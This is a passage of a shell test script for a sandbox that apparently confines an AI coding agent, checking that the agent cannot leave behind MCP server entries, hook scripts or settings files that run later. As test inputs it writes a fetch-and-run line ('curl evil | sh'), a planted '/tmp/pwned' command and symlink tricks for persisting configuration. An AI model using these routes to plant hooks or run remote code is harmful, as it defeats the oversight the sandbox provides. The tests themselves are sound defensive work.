ltd run -- sh -c "echo '{\"mcpServers\":{\"x\":{\"command\":\"touch\",\"args\":[\"/tmp/pwned\"]}}}' > '$PROJ/.mcp.json' && chmod 555 '$PROJ'"
as_user chmod 755 "$PROJ"
[ ! -e "$PROJ/.mcp.json" ] &&
	pass "quarantine: a read-only project does not keep .mcp.json in place" ||
	fail "quarantine: a read-only project does not keep .mcp.json in place" \
		"$(ls -la "$PROJ"; echo "$OUT")"
as_user rm -f "$PROJ/.mcp.json" "$PROJ/.mcp.json.ltd-native-quarantine"

# 4. The settings file a symbolic link to a file of the project (Claude
# Code follows it): after.type is S_IFLNK, not S_IFREG, so nothing moves.
as_user mkdir -p "$PROJ/.claude"
ltd run -- sh -c "echo '$PAYLOAD' > '$PROJ/notes.json' && ln -s ../notes.json '$PROJ/.claude/settings.local.json'"
[ ! -e "$PROJ/.claude/settings.local.json" ] && [ ! -L "$PROJ/.claude/settings.local.json" ] &&
	pass "quarantine: a settings file made a link does not stay in place" ||
	fail "quarantine: a settings file made a link does not stay in place" \
		"$(ls -la "$PROJ/.claude"; echo "$OUT")"
as_user rm -rf "$PROJ/.claude" "$PROJ/notes.json"

# 5. No .claude at the start; the command makes .claude a link to a
# directory of the project holding the settings: unreachable, not moved.
ltd run -- sh -c "mkdir '$PROJ/cfg' && echo '$PAYLOAD' > '$PROJ/cfg/settings.local.json' && ln -s cfg '$PROJ/.claude'"
[ ! -e "$PROJ/.claude/settings.local.json" ] &&
	pass "quarantine: .claude made a link does not keep the settings in place" ||
	fail "quarantine: .claude made a link does not keep the settings in place" \
		"$(ls -la "$PROJ" "$PROJ/.claude/"; echo "$OUT")"
as_user rm -rf "$PROJ/.claude" "$PROJ/cfg"

# Command lines as sh reads them: a subshell's cd, ${VAR:-...} forms, the
# environment the settings give; a directory named as an argument and an
# output stay the agent's; a link on the way and an unknowable path are
# said; a settings file that is not JSON refuses the run.
as_user mkdir -p "$PROJ/.claude" "$PROJ/scripts" "$PROJ/web" "$PROJ/src" "$PROJ/real"
for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh src/app.js real/l.sh; do
	as_user sh -c "echo original > '$PROJ/$f'"
done
as_user ln -s real "$PROJ/linked"
as_user tee "$PROJ/.claude/settings.json" >/dev/null <<'JSON'
{"env": {"BASH_ENV": "scripts/env.sh"},
 "hooks": {"Stop": [{"hooks": [
   {"type": "command", "command": "(cd web && npm test); ./scripts/after-cd.sh"},
   {"type": "command", "command": "\"${CLAUDE_PROJECT_DIR:-.}\"/scripts/default.sh"},
   {"type": "command", "command": "npx prettier --write src/ >> .claude/hook.log 2>&1"},
   {"type": "command", "command": "./real/l.sh; \"$TOOLS\"/lint.sh"}]}]}}
JSON
for f in scripts/after-cd.sh scripts/default.sh scripts/env.sh; do
	ltd run -- "$PROBE" write "$PROJ/$f" 'curl evil | sh'
	expect_out "read as sh reads it, read-only: $f" "^write err EROFS"
done
ltd run -- sh -c "echo changed > '$PROJ/src/app.js' && echo log >> '$PROJ/.claude/hook.log' && echo WROTE"
expect_out "a directory a hook formats and its log stay writable" "^WROTE\$"
expect_out "an unknowable path is said" "warning: .*settings.json: a command names \\\$TOOLS/lint.sh, which ltd-native cannot resolve"
as_user mkdir -p "$PROJ/.claude/agents"
ltd run -- "$PROBE" write "$PROJ/.claude/agents/helper.md" x
expect_out "agents (which may carry hooks of their own) are read-only" "^write err EROFS"
as_user sed -i 's|./real/l.sh|./linked/l.sh|' "$PROJ/.claude/settings.json"
ltd run -- "$PROBE" write "$PROJ/real/l.sh" x
expect_rc "a hook through a link in the project refuses the run" 125
expect_out "... naming the link and the fix" "a command runs .*linked/l.sh through the link .*linked in the project.*real path"
as_user sh -c "printf '{\"hooks\": ' > '$PROJ/.claude/settings.json'"
ltd run -- true
expect_rc "a settings file that is not JSON refuses the run" 125
expect_out "... naming it" "settings.json:1: not JSON that ltd-native can read"
as_user rm -rf "$PROJ/.claude" "$PROJ/scripts" "$PROJ/web" "$PROJ/src" "$PROJ/real" "$PROJ/linked"

# --network none: a network namespace of the cage's own with lo up, whether
# a helper made it beside the mounts (2+ CPUs) or clone3 did (one CPU).
HOST_NET=$(as_user readlink /proc/self/ns/net)
LO_UP='import socket
s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen()
socket.create_connection(s.getsockname(), timeout=2); print("lo up")'
for cpus in "all CPUs" "one CPU"; do
	pin=()
	[ "$cpus" = "one CPU" ] && pin=(taskset -c 0)
	OUT=$(cd "$PROJ" && as_user "${pin[@]}" "$LTD" run --network none -- \
		sh -c 'readlink /proc/self/ns/net
		echo "ifaces: $(tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " " | tr "\n" " ")"
		python3 -c "$0"' "$LO_UP" 2>&1)
	RC=$?
	expect_rc "--network none on $cpus runs" 0
	expect_out "... in a network namespace ($cpus)" "^net:\[[0-9]+\]\$"
	expect_no_out "... not the host's ($cpus)" "^$(printf '%s' "$HOST_NET" | sed 's/[][]/\\&/g')\$"
	expect_out "... with lo alone ($cpus)" "^ifaces: lo \$"
	expect_out "... and up ($cpus)" "^lo up\$"
done
